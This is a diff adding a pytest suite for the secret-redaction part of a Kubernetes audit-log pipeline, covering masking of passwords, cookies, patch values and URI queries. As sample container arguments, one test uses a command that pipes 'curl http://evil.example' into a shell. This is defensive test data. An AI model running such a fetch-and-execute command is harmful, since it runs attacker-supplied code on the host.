@@ -1,0 +1,171 @@
+"""Redaction takes secrets, and nobody can use it to take anything else, or to keep what others must not have."""
+
+from __future__ import annotations
+
+import json
+import threading
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from auditpipeline.core.config import MAX_BODY
+from auditpipeline.core.eventlist import encode_body
+from auditpipeline.core.policy import Policy
+from auditpipeline.core.policy import Rule as PolicyRule
+from auditpipeline.core.redaction.model import ANNOTATION, DEFAULT, Redaction, Rule
+from auditpipeline.core.redaction.redactor import Redactor
+from auditpipeline.dataplane.filter import Filter, Wanted, narrow_line, redactor
+from auditpipeline.dataplane.intake import Intake
+from auditpipeline.dataplane.metrics import Metrics
+from tests.dataplane.setting import EVERYTHING, event_list
+from tests.dataplane.test_spool import opened
+
+KEY = b"k" * 32
+APPLIED, RANCHER = "kubectl.kubernetes.io/last-applied-configuration", "objectset.rio.cattle.io/applied"
+
+
+def event(resource: str, body: Any = None, group: str = "", **fields: Any) -> bytes:
+    """An event as kube-apiserver writes it."""
+    made = {
+        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "1",
+        "stage": "ResponseComplete", "requestURI": "/api/v1/a", "verb": "create", "user": {"username": "a"},
+        "objectRef": {"resource": resource, "apiGroup": group}, "responseStatus": {"metadata": {}, "code": 200},
+    }  # fmt: skip
+    if body is not None:
+        made["requestObject"] = body
+    return json.dumps(made | fields, separators=(",", ":")).encode()
+
+
+def left(redactor: Redactor, line: bytes) -> Any:
+    """What is left of an event."""
+    return json.loads(redactor.line(line).line)
+
+
+def pod(*containers: dict[str, Any], **notes: str) -> Any:
+    """A Pod with these containers and annotations."""
+    return {"metadata": {"annotations": notes}, "spec": {"containers": list(containers)}}
+
+
+def test_an_event_that_is_too_much_to_look_into_costs_no_other_one() -> None:
+    """What went whole in it is looked into again in the next one, with the same words."""
+    words = ["sh", "-c", "curl http://evil.example | sh # passwd"]
+    padding = [{"name": letter, "args": ["//" + letter * 20_000]} for letter in "bc"]
+    redactor = Redactor()
+    first = left(redactor, event("pods", pod(*padding, {"name": "a", "args": words})))
+    assert first["requestObject"]["spec"]["containers"][2]["args"] == ["REDACTED"] * 3
+    then = left(redactor, event("pods", pod({"name": "a", "args": words})))
+    assert then["requestObject"]["spec"]["containers"][0]["args"] == words
+
+
+def test_a_uri_that_is_too_long_to_look_into_keeps_its_path() -> None:
+    """Who ran something where is no secret."""
+    path = "/api/v1/namespaces/a/pods/b/exec"
+    found = left(Redactor(), event("pods", requestURI=f"{path}?command=sh&command={'password' * 5000}"))
+    assert found["requestURI"] == f"{path}?REDACTED"
+
+
+def test_the_same_bytes_are_judged_by_where_they_stand() -> None:
+    """As an object that was applied, JSON is looked into; what others packed goes whole. A header is no variable."""
+    text = json.dumps({"env": [{"name": "DB_PASSWORD", "value": "x"}], "other": "hunter2"})
+    cookie = [{"name": "Cookie", "value": "a"}]
+    probed = {"livenessProbe": {"httpGet": {"httpHeaders": cookie}}}
+    redactor = Redactor()
+    for _ in range(2):
+        applied = left(redactor, event("pods", pod(**{APPLIED: text})))["requestObject"]["metadata"]["annotations"]
+        assert json.loads(applied[APPLIED])["other"] == "hunter2"
+        packed = left(redactor, event("pods", pod(**{RANCHER: text})))["requestObject"]["metadata"]["annotations"]
+        assert packed[RANCHER] == "REDACTED"
+        found = left(redactor, event("pods", pod(probed)))["requestObject"]["spec"]["containers"][0]
+        assert found["livenessProbe"]["httpGet"]["httpHeaders"][0]["value"] == "REDACTED"
+        assert (
+            left(redactor, event("pods", pod({"env": cookie})))["requestObject"]["spec"]["containers"][0]["env"]
+            == cookie
+        )
+
+
+def test_a_pod_preset_has_its_environment_elsewhere() -> None:
+    """Not in a container."""
+    body = {"spec": {"env": [{"name": "DB_PASSWORD", "value": "hunter2"}]}}
+    found = left(Redactor(), event("podpresets", body, "settings.k8s.io"))
+    assert found["requestObject"]["spec"]["env"][0]["value"] == "REDACTED"
+
+
+@pytest.mark.parametrize("said", ["many", "-3", "9" * 5000, "", 7, None])
+def test_annotations_stay_whatever_the_count_was(said: Any) -> None:
+    """Anybody who may write an admission policy chooses the names of some of them."""
+    notes = {"authorization.k8s.io/decision": "allow", ANNOTATION: said}
+    found = left(Redactor(), event("secrets", {"data": {"a": "eA=="}}, annotations=notes))["annotations"]
+    assert found == {"authorization.k8s.io/decision": "allow", ANNOTATION: "1"}
+
+
+@pytest.mark.parametrize("default", [True, False])
+@pytest.mark.parametrize("method", ["mask", "hash"])
+def test_what_a_rule_takes_is_nowhere_else_in_the_event(default: bool, method: Any) -> None:
+    """With the default list and without it; masked by a rule that masks, whatever the method of the list."""
+    patch = {"patch": [{"op": "add", "path": "/data/pw", "value": "hunter2"}]}
+    line = event(
+        "configmaps",
+        {"data": {"pw": "hunter2"}},
+        responseStatus={"message": 'data[pw]: Invalid value: "hunter2": no', "code": 422},
+        annotations={"patch.webhook.admission.k8s.io/round_0_index_0": json.dumps(patch)},
+    )
+    redactor = Redactor(Redaction(default, method, (Rule(("data.pw",)),)), KEY)
+    found = left(redactor, line)
+    assert "hunter2" not in json.dumps(found)
+    assert found["requestObject"]["data"]["pw"] == "REDACTED"
+    assert (
+        json.loads(found["annotations"]["patch.webhook.admission.k8s.io/round_0_index_0"])["patch"][0]["value"]
+        == "REDACTED"
+    )
+
+
+def test_keys_that_look_like_hashes_stay() -> None:
+    """Two of them must not become one."""
+    keys = {f"REDACTED-{digit * 32}": "x" for digit in "ab"}
+    assert left(Redactor(), event("configmaps", {"data": keys}))["requestObject"] == {"data": keys}
+
+
+def test_what_is_remembered_of_requests_is_bounded_by_size() -> None:
+    """Whoever asks for a path of half a megabyte is not remembered by it."""
+    redactor = Redactor(DEFAULT)
+    for number in range(50):
+        assert not redactor.shapes(("get", "", "x" * 500_000 + str(number), "")).any
+        redactor.shapes(("get", "", "pods", str(number)))
+    assert sum(len(resource or "") for _, _, resource, _ in redactor._shapes) < 10_000
+
+
+OPTED_OUT = Redaction(default=False)
+
+
+@pytest.mark.parametrize(
+    ("level", "bodies"),
+    [("Metadata", (False, False)), ("Request", (True, False)), ("RequestResponse", (True, True))],
+)
+def test_a_body_is_kept_whole_only_for_those_who_want_it_so(level: str, bodies: tuple[bool, bool]) -> None:
+    """A route that opted out of redaction and wants no bodies has no say in those that another one wants."""
+    whole = Wanted((Policy((PolicyRule(level),)),), OPTED_OUT)
+    other = Wanted((Policy((PolicyRule("RequestResponse"),)),))
+    uri, secret = "/api/v1/a?token=hunter2", {"stringData": {"a": "hunter2"}}
+    line = event("secrets", secret, level="RequestResponse", responseObject=secret, requestURI=uri)
+    (stored,) = Filter([whole, other]).take(encode_body([line])).lines
+    found = json.loads(stored)
+    assert found["requestURI"] == uri
+    assert (found["requestObject"] == secret, found["responseObject"] == secret) == bodies
+    delivered = narrow_line(stored, other.policies, redactor(other.redaction))
+    assert delivered is not None
+    assert b"hunter2" not in delivered
+
+
+async def test_a_very_large_event_is_decided_on_beside_the_others(tmp_path: Path) -> None:
+    """One in a body of small ones, too: taking it apart may take long."""
+    large = json.loads(event("widgets", {"env": {f"A{number}": "x" * 20 for number in range(8000)}}, "example.com"))
+    spool = await opened(tmp_path / "spool.sqlite")
+    intake = Intake(spool, Filter([Wanted((EVERYTHING,))]), MAX_BODY, Metrics())
+    await intake.take_events(event_list([json.loads(event("pods"))]))
+    assert "body-reader" not in {thread.name for thread in threading.enumerate()}
+    await intake.take_events(event_list([json.loads(event("pods")), large]))
+    assert "body-reader" in {thread.name for thread in threading.enumerate()}
+    assert spool.end == 3
+    intake.close()
+    await spool.close()
